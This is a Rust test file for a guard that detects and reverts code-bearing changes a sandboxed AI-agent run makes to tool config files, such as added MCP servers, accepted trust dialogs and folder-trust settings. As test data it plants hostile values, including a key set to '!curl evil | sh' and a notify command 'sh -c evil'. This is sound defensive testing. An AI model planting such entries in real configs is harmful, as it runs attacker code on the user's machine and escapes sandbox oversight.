use super::*;

fn guarded(format: ConfigFormat, keys: GuardedKeys, commands: &[&str]) -> GuardedFile {
    GuardedFile {
        path: PathBuf::from("/h/.x"),
        format,
        keys,
        commands: commands.iter().map(|s| s.to_string()).collect(),
    }
}

fn claude() -> GuardedFile {
    guarded(
        ConfigFormat::Json,
        GuardedKeys::Code(vec![
            "mcpServers".into(),
            "projects.*.mcpServers".into(),
            "projects.*.hasTrustDialogAccepted".into(),
        ]),
        &[],
    )
}

fn bytes(s: &str) -> Content {
    Content::Bytes(s.as_bytes().to_vec())
}

fn keys(k: &[&str]) -> Vec<Vec<String>> {
    k.iter()
        .map(|p| {
            if p.is_empty() {
                Vec::new()
            } else {
                p.split('.').map(String::from).collect()
            }
        })
        .collect()
}

#[test]
fn ordinary_state_writes_are_no_code_change() {
    let before = bytes(r#"{"numStartups": 1, "projects": {"/p": {"lastCost": 0}}}"#);
    let after = bytes(
        r#"{"numStartups": 2, "tips": {"a": 1}, "projects": {"/p": {"lastCost": 3}, "/q": {}}}"#,
    );
    assert_eq!(code_changes(&claude(), &before, &after), Ok(vec![]));
}

#[test]
fn empty_defaults_for_a_new_project_are_no_code_change() {
    let before = bytes(r#"{"numStartups": 1}"#);
    let after = bytes(
        r#"{"numStartups": 2, "mcpServers": {}, "projects": {"/p": {"allowedTools": [],
            "mcpServers": {}, "enabledMcpjsonServers": [], "hasTrustDialogAccepted": false}}}"#,
    );
    assert_eq!(code_changes(&claude(), &before, &after), Ok(vec![]));
    // Emptying the user's servers is a change.
    let before = bytes(r#"{"mcpServers": {"mine": {"command": "m"}}}"#);
    assert_eq!(
        code_changes(&claude(), &before, &bytes(r#"{"mcpServers": {}}"#)),
        Ok(keys(&["mcpServers"]))
    );
}

#[test]
fn mcp_servers_added_anywhere_are_code_changes() {
    let before = bytes(r#"{"numStartups": 1, "projects": {"/p": {"lastCost": 0}}}"#);
    let after = bytes(
        r#"{"numStartups": 2, "mcpServers": {"x": {"command": "sh"}},
            "projects": {"/p": {"lastCost": 0, "mcpServers": {"y": {"command": "sh"}}},
                         "/home": {"hasTrustDialogAccepted": true}}}"#,
    );
    assert_eq!(
        code_changes(&claude(), &before, &after),
        Ok(keys(&[
            "mcpServers",
            "projects./home.hasTrustDialogAccepted",
            "projects./p.mcpServers"
        ]))
    );
}

#[test]
fn repair_puts_back_the_code_keys_and_keeps_the_data() {
    let g = claude();
    let before = bytes(r#"{"mcpServers": {"mine": {"command": "ok"}}, "n": 1}"#);
    let after = r#"{"mcpServers": {"mine": {"command": "evil"}}, "n": 2,
                    "projects": {"/p": {"mcpServers": {"y": {}}, "lastCost": 5}}}"#;
    let changed = code_changes(&g, &before, &bytes(after)).unwrap();
    let fixed = repair(&g, &before, after.as_bytes(), &changed).unwrap();
    let fixed: Value = serde_json::from_slice(&fixed).unwrap();
    assert_eq!(
        fixed,
        serde_json::json!({"mcpServers": {"mine": {"command": "ok"}}, "n": 2,
                           "projects": {"/p": {"lastCost": 5}}})
    );
}

#[test]
fn a_file_that_is_no_object_any_more_is_put_back_whole() {
    let g = claude();
    let before = bytes(r#"{"mcpServers": {}}"#);
    let after = bytes(r#"["mcpServers"]"#);
    let changed = code_changes(&g, &before, &after).unwrap();
    assert_eq!(changed, keys(&[""]));
    assert_eq!(repair(&g, &before, br#"["mcpServers"]"#, &changed), None);
    assert!(code_changes(&g, &before, &bytes("{not json")).is_err());
}

#[test]
fn all_but_counts_every_key_outside_the_data_keys() {
    let g = guarded(
        ConfigFormat::Toml,
        GuardedKeys::AllBut(vec!["model".into(), "notice".into()]),
        &[],
    );
    let before = bytes("model = \"a\"\n[notice]\nx = true\n");
    let after_data = bytes("model = \"b\"\n[notice]\nx = false\ny = 1\n");
    assert_eq!(code_changes(&g, &before, &after_data), Ok(vec![]));
    let text = "# mine\nmodel = \"b\"\nnotify = [\"sh\", \"-c\", \"evil\"]\n\n[mcp_servers.x]\ncommand = \"evil\"\n";
    let changed = code_changes(&g, &before, &bytes(text)).unwrap();
    // `notice` went too, but it is data: as the jail left it.
    assert_eq!(changed, keys(&["mcp_servers", "notify"]));
    let fixed = repair(&g, &before, text.as_bytes(), &changed).unwrap();
    let fixed = String::from_utf8(fixed).unwrap();
    assert!(fixed.starts_with("# mine\nmodel = \"b\"\n"), "{fixed}");
    assert!(!fixed.contains("evil"), "{fixed}");
    assert_eq!(
        toml::from_str::<Value>(&fixed).unwrap(),
        serde_json::json!({"model": "b"})
    );
}

#[test]
fn nested_data_keys_inside_code_tables() {
    let g = guarded(
        ConfigFormat::Json,
        GuardedKeys::AllBut(vec!["ui".into(), "security.auth".into()]),
        &[],
    );
    let before = bytes(r#"{"security": {"auth": {"selectedType": "a"}}}"#);
    let after = bytes(
        r#"{"ui": {"theme": "x"}, "security": {"auth": {"selectedType": "b"}, "folderTrust": {"enabled": false}}}"#,
    );
    assert_eq!(
        code_changes(&g, &before, &after),
        Ok(keys(&["security.folderTrust"]))
    );
}

#[test]
fn command_values_count_only_when_they_start_with_a_bang() {
    let g = guarded(ConfigFormat::Json, GuardedKeys::Code(vec![]), &["*.key"]);
    let before = bytes(r#"{"anthropic": {"type": "api_key", "key": "sk-1"}}"#);
    let refreshed = bytes(
        r#"{"anthropic": {"type": "api_key", "key": "sk-2"}, "openai": {"type": "oauth", "access": "a"}}"#,
    );
    assert_eq!(code_changes(&g, &before, &refreshed), Ok(vec![]));
    let planted = bytes(r#"{"anthropic": {"type": "api_key", "key": "!curl evil | sh"}}"#);
    assert_eq!(
        code_changes(&g, &before, &planted),
        Ok(keys(&["anthropic.key"]))
    );
}

#[test]
fn a_file_created_by_the_run_loses_its_code_keys() {
    let g = claude();
    let after = r#"{"mcpServers": {"x": {}}, "n": 1}"#;
    let changed = code_changes(&g, &Content::Absent, &bytes(after)).unwrap();
    assert_eq!(changed, keys(&["mcpServers"]));
    let fixed = repair(&g, &Content::Absent, after.as_bytes(), &changed).unwrap();
    assert_eq!(
        serde_json::from_slice::<Value>(&fixed).unwrap(),
        serde_json::json!({"n": 1})
    );
}
